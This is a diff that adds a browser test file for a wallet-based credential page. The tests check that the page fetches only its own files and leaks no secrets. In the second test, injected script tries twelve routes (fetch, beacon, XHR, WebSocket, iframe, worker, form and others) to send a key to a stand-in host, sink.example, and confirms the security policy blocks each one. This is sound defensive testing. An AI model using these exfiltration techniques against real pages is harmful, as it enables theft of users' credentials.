@@ -1,0 +1,95 @@
+// Nothing leaves the page.
+import { EXCHANGE, card, downloaded, expect, serveAt, store, test } from "./support/page.js";
+import { entriesOf, secretsOf, vectors } from "./support/vectors.js";
+import { addWallet } from "./support/wallets.js";
+
+const [vector, other] = vectors;
+
+test("the page asks for its own files and nothing else, whatever is done with it", async ({ page, context }) => {
+  const requests = await serveAt(context);
+  await addWallet(context, { vector });
+  await store(page, entriesOf([other]));
+  /** @type {string[]} */
+  const logged = [];
+  page.on("console", (message) => logged.push(message.text()));
+  await page.goto(EXCHANGE);
+  await page.getByRole("button", { name: "Test Wallet" }).click();
+  for (const step of ["Signature 1 of 2", "Signature 2 of 2"]) {
+    await expect(page.getByText(step)).toBeVisible();
+    await page.getByRole("button", { name: "Ask my wallet to sign" }).click();
+  }
+  for (const label of ["STARK private key", "API secret", "API passphrase"]) {
+    await card(page, vector).getByRole("button", { name: `Reveal: ${label}` }).click();
+  }
+  await page.getByRole("button", { name: "Save to this browser" }).click();
+  await page.getByRole("button", { name: "Save", exact: true }).click();
+  await page.getByRole("button", { name: "Export credentials" }).click();
+  await downloaded(page, () => page.getByRole("button", { name: "Save file" }).click());
+  await card(page, other).getByRole("button", { name: "Remove from this browser" }).click();
+  await page.getByRole("button", { name: "Remove", exact: true }).click();
+  await expect(page.getByRole("status")).toContainText("Removed");
+
+  const files = new Set(requests.map(({ url }) => url.replace(EXCHANGE, "")));
+  for (const file of files) {
+    expect(file).toMatch(/^\/($|page\.js$|style\.css$|icon\.svg$|locales\/en\.json$|ui\/[a-z-]+\.js$|stark-credentials\/)/);
+  }
+  expect(requests.every(({ method, body }) => method === "GET" && body === null)).toBe(true);
+  expect(files.size).toBe(requests.length);
+  const traces = [...logged, page.url(), await page.title(), ...files].join("\n");
+  for (const secret of [vector, other].flatMap(secretsOf)) expect(traces).not.toContain(secret);
+});
+
+test.describe(() => {
+  test.use({ troubled: true });
+
+  test("the page's policy stops every way out, also for a script that gets in", async ({ page, context }) => {
+    const requests = await serveAt(context);
+    await page.goto(EXCHANGE);
+    await expect(page.getByRole("heading", { name: "This browser" })).toBeVisible();
+    const before = requests.length;
+    const stopped = await page.evaluate(async () => {
+      const sink = "https://sink.example/?key=1";
+      const add = (/** @type {string} */ tag, /** @type {object} */ properties) => {
+        const element = Object.assign(document.createElement(tag), properties);
+        document.body.append(element);
+        return element;
+      };
+      /** @type {Record<string, () => unknown>} */
+      const attempts = {
+        fetch: () => fetch(sink).catch(() => {}),
+        beacon: () => navigator.sendBeacon(sink, "key"),
+        xhr: () => {
+          const request = new XMLHttpRequest();
+          request.open("POST", sink);
+          request.send("key");
+        },
+        webSocket: () => new WebSocket("wss://sink.example/?key=1"),
+        eventSource: () => new EventSource(sink),
+        image: () => add("img", { src: sink }),
+        script: () => add("script", { src: sink }),
+        inlineScript: () => add("script", { textContent: `fetch("${sink}")` }),
+        style: () => add("link", { rel: "stylesheet", href: sink }),
+        frame: () => add("iframe", { src: sink }),
+        worker: () => new Worker(URL.createObjectURL(new Blob([`fetch("${sink}")`]))),
+        form: () => /** @type {HTMLFormElement} */ (add("form", { action: sink, method: "post" })).submit(),
+      };
+      /** @type {string[]} */
+      const stopped = [];
+      for (const [name, attempt] of Object.entries(attempts)) {
+        const violation = new Promise((resolve) =>
+          document.addEventListener("securitypolicyviolation", resolve, { once: true }),
+        );
+        try {
+          attempt();
+        } catch {
+          // Some throw as well.
+        }
+        await violation;
+        stopped.push(name);
+      }
+      return stopped;
+    });
+    expect(stopped).toHaveLength(12);
+    expect(requests.slice(before)).toEqual([]);
+  });
+});
